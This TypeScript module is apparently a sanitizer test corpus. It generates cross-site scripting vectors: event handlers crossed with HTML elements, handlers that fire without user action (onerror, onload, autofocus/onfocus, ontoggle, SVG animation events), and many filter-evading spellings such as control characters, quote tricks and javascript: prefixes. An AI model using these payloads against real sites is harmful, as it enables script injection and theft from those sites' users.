// Scripts in attributes that listen: every event there is, on every element that survives cleaning somewhere, in every spelling parsers forgive.
import { crossed, type Recipe, type VectorClass } from '../vector.ts'

const events =
  `abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforecut
  beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur bounce cancel canplay canplaythrough
  change click close command contentvisibilityautostatechange contextlost contextmenu contextrestored copy cuechange cut dblclick drag dragend
  dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error finish focus focusin focusout formdata
  fullscreenchange fullscreenerror gesturestart gotpointercapture hashchange input invalid keydown keypress keyup languagechange load loadeddata
  loadedmetadata loadend loadstart location lostpointercapture message messageerror mousedown mouseenter mouseleave mousemove mouseout mouseover
  mouseup mousewheel offline online pagehide pagereveal pageshow pageswap paste pause play playing pointercancel pointerdown pointerenter
  pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat
  reset resize scroll scrollend scrollsnapchange scrollsnapchanging search securitypolicyviolation seeked seeking select selectionchange
  selectstart show slotchange stalled start storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel
  transitionend transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitfullscreenchange
  webkittransitionend webkitwillrevealbottom wheel zoom`.split(/\s+/)

const elements =
  `a abbr address article aside b bdi blockquote body button caption center cite code col custom-element dd del details dfn dialog div dl dt em
  embed fieldset figcaption figure font footer form frame frameset h1 h2 h6 header hr html i iframe img input ins kbd keygen label legend li link
  main map mark marquee math menu meta meter nav noscript object ol optgroup option output p picture pre progress q ruby s samp script section
  select slot small source span strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var
  video wbr xmp`.split(/\s+/)

/** Events that happen by themselves, with what they need. */
const unasked: readonly Recipe[] = [
  '<img src=x onerror=RUN>',
  '<img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA= onload=RUN>',
  '<svg onload=RUN>',
  '<svg><g onload=RUN></g></svg>',
  '<svg/onload=RUN//',
  '<body onload=RUN>',
  '<body onpageshow=RUN>',
  '<body onfocus=RUN>',
  '<body onresize=RUN>',
  '<body onhashchange=RUN>',
  '<html onload=RUN>',
  '<iframe onload=RUN></iframe>',
  '<iframe src=about:blank onload=RUN></iframe>',
  '<frameset onload=RUN><frame></frameset>',
  '<input autofocus onfocus=RUN>',
  '<input onblur=RUN autofocus><input autofocus>',
  '<select autofocus onfocus=RUN></select>',
  '<textarea autofocus onfocus=RUN></textarea>',
  '<keygen autofocus onfocus=RUN>',
  '<button autofocus onfocus=RUN>x</button>',
  '<a href=# autofocus tabindex=1 onfocus=RUN>x</a>',
  '<div contenteditable autofocus onfocus=RUN>x</div>',
  '<summary autofocus tabindex=1 onfocusin=RUN>x</summary>',
  '<details open ontoggle=RUN>x</details>',
  '<details/open/ontoggle=RUN>',
  '<video onloadstart=RUN src=x></video>',
  '<video><source onerror=RUN src=x></video>',
  '<video onerror=RUN src=x></video>',
  '<audio onerror=RUN src=x></audio>',
  '<audio autoplay onplay=RUN src=data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEARKwAAIhYAQACABAAZGF0YQAAAAA=></audio>',
  '<object data=x: onerror=RUN></object>',
  '<object onerror=RUN></object>',
  '<embed src=x: onerror=RUN>',
  '<link rel=stylesheet href=data:text/css, onload=RUN>',
  '<link rel=icon href=x: onerror=RUN>',
  '<style onload=RUN></style>',
  '<style onerror=RUN>@import "data:x"</style>',
  '<script src=x: onerror=RUN></script>',
  '<track onerror=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<marquee loop=1 width=0 onfinish=RUN>x</marquee>',
  '<form><input type=image src=x onerror=RUN></form>',
  '<image src=x onerror=RUN>',
  '<picture><source srcset=x><img onerror=RUN></picture>',
  '<style>@keyframes k{}</style><p style="animation:k 1ms" onanimationstart=RUN>x</p>',
  '<style>p{transition:color 1ms}p:target{color:red}</style><p id=x ontransitionrun=RUN>x</p>',
  '<p style="content-visibility:auto" oncontentvisibilityautostatechange=RUN>x</p>',
  '<div popover id=pop onbeforetoggle=RUN>x</div><button popovertarget=pop autofocus>x</button>',
  '<p hidden=until-found onbeforematch=RUN>x</p>',
  '<div style="overflow:scroll;height:1px" onscrollend=RUN><p id=y style="height:9px"></div>',
  '<bgsound src=x: onerror=RUN>',
  '<isindex type=image src=x onerror=RUN>',
  '<x onclick=RUN tabindex=1 id=z autofocus onfocus=RUN>x</x>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s></svg>',
  '<svg><set onbegin=RUN attributename=x to=1></svg>',
  '<svg><animatetransform onbegin=RUN attributeName=transform></svg>',
  '<svg><image href=x: onerror=RUN></svg>',
  '<svg><image onload=RUN href=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=></svg>',
  '<svg><style onload=RUN></style></svg>',
  '<svg><script href=x: onerror=RUN></script></svg>',
  '<math><mi onclick=RUN autofocus tabindex=1 onfocus=RUN>x</mi></math>',
]

/** One handler in every spelling that some parser took for an attribute. */
const spellings: readonly Recipe[] = [
  '<IMG SRC=x ONERROR=RUN>',
  '<img src=x oNeRrOr=RUN>',
  '<img/src=x/onerror=RUN>',
  '<img src="x"onerror="RUN">',
  "<img src='x'onerror='RUN'>",
  '<img src=`x`onerror=`RUN`>',
  '<img src=x onerror\n=\nRUN>',
  '<img\tsrc=x\tonerror\t=\tRUN>',
  '<img\u000csrc=x\u000conerror=RUN>',
  '<img\u000bsrc=x\u000bonerror=RUN>',
  '<img\u00a0src=x\u00a0onerror=RUN>',
  '<img src=x onerror=RUN//',
  '<img src=x onerror="RUN"',
  '<img src=x on\u0000error=RUN>',
  '<img src=x \u0000onerror=RUN>',
  '<i\u0000mg src=x onerror=RUN>',
  '<\u0000img src=x onerror=RUN>',
  '<img src=x onerror=RUN onerror=1>',
  '<img src=x a=">" onerror=RUN>',
  "<img src=x a='>' onerror=RUN>",
  '<img """><img src=x onerror=RUN>">',
  "<img src=x id/=' onerror=RUN//'>",
  '<img src onerror /" \'"= alt=RUN//">',
  '<img src=x onerror=javascript:RUN>',
  '<img src=x onerror=vbs:RUN>',
  '<img src=x onerror=&#116;op.carrelTrap(0),RUN>',
  '<img src=x alt="`" title="``onerror=RUN">',
  '<img src=x alt="``onmouseover=RUN ">',
  '<<img src=x onerror=RUN>>',
  '<img src=x onerror=RUN <p>',
  '<p/x="1"onclick=RUN/autofocus/tabindex=1/onfocus=RUN>x</p>',
  '<p =onclick=RUN x=yscript: onfocus=RUN>x</p>',
  '<p "onclick=RUN" \'onfocus=RUN\'>x</p>',
  '<p xml:onclick=RUN svg:onclick=RUN xlink:onclick=RUN on-click=RUN on:click=RUN @click=RUN v-on:click=RUN (click)=RUN>x</p>',
  '<p data-on-click=RUN hx-on:click=RUN x-on:click=RUN ng-click=RUN onclick.prevent=RUN>{{RUN}}</p>',
  '<p folder="javascript:RUN" style="behavior:url(#default#AnchorClick)">x</p>',
  '<x:p onclick=RUN>x</x:p>',
  '</p onclick=RUN><p/ onclick=RUN>x</p onclick=RUN>',
  '<?p onclick=RUN?><!p onclick=RUN></ p onclick=RUN>x',
]

export const handlers: readonly VectorClass[] = [
  { name: 'every event', recipes: events.map((event): Recipe => `<p tabindex=1 autofocus on${event}="RUN">x</p>`) },
  {
    name: 'handlers on every element',
    recipes: crossed(
      elements,
      ['onclick', 'onfocus=RUN tabindex=1 autofocus onmouseover'],
      (element, event) => `<${element} ${event}=RUN>x</${element}>`,
    ),
  },
  { name: 'events that happen unasked', recipes: unasked },
  { name: 'spellings of a handler', recipes: spellings },
]
